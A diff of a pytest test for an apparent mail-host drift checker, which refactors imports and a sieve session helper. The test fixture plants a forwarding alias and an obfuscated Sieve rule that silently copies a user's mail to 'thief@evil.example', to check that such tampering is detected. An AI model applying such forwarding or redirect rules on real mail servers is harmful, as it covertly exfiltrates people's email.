@@ -7,12 +7,12 @@ from collections.abc import Iterable
 
 import pytest
 
-from mailwright.hosts.mail.managesieve import Session
 from mailwright.hosts.mail.strangers import is_inside, targets
 from mailwright.model.checks import Check, Status
 from mailwright.operations.mail_drift import mail_drift
 from mailwright.operations.planning import planned
-from tests.mail_host.worlds import COMPANY, DOMAIN, Company
+from tests.mail_host.worlds import COMPANY, Company
+from tests.mailboxes.specs import DOMAIN
 
 DAY = dt.date(2026, 11, 23)
 
@@ -50,7 +50,7 @@ def test_what_was_changed_and_what_strangers_wrote(served: Company) -> None:
         f"jobs@{DOMAIN}  li@{DOMAIN}\nbank@{DOMAIN}  thief@evil.example\n"
         + aliases.read_text().replace(f"agent@{DOMAIN}  li", f"agent@{DOMAIN}  chen")
     )
-    with Session(served.live.login("li")) as session:
+    with served.live.session("li") as session:
         session.put(
             "roundcube", 'require "copy";\r\nReDirect /* ; */ :copy # ;\r\n "thief@evil.example";\r\n'
         )
